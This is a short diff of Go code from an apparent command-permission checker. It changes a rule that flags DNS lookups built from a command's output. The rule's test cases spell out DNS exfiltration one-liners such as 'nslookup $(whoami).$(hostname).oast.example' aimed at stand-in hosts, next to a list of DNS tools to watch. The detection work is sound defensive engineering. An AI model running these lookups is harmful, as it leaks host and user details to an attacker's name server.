@@ -199,7 +199,7 @@ var dnsTools = []string{"dig", "nslookup", "host", "drill", "kdig", "delv", "res
 // the output travels to the domain's name server, a channel no proxy
 // sees. A secret in it is denied by net2DNSSecretRule.
 func net2DNSRule() Rule {
-	return cmdRule("external.systems:dns-carries-data", Ask, "A DNS lookup (dig, nslookup, host, ping) of a name built from a command's output ($(whoami).$(hostname).x.example): the output travels to the domain's name server", dnsTools,
+	return readsOnly(cmdRule("external.systems:dns-carries-data", Ask, "A DNS lookup (dig, nslookup, host, ping) of a name built from a command's output ($(whoami).$(hostname).x.example): the output travels to the domain's name server", dnsTools,
 		func(e *Env, c *Cmd) string {
 			for _, p := range c.Pos {
 				if subdomainOfOutput(p) {
@@ -209,7 +209,7 @@ func net2DNSRule() Rule {
 			return ""
 		},
 		[]string{"nslookup $(whoami).$(hostname).oast.example", "dig +short $(id -u).x.example", "host `hostname`.x.example", "ping -c1 $(uname -n).x.example"},
-		[]string{"dig +short example.com", "nslookup api.github.com", "host $HOSTNAME", "dig @1.1.1.1 acme.io MX", "nslookup $(head -1 hosts.txt)", "dig +short $(hostname).local"})
+		[]string{"dig +short example.com", "nslookup api.github.com", "host $HOSTNAME", "dig @1.1.1.1 acme.io MX", "nslookup $(head -1 hosts.txt)", "dig +short $(hostname).local"}))
 }
 
 // dnsSecret: a substitution in a looked-up name that reads a secret
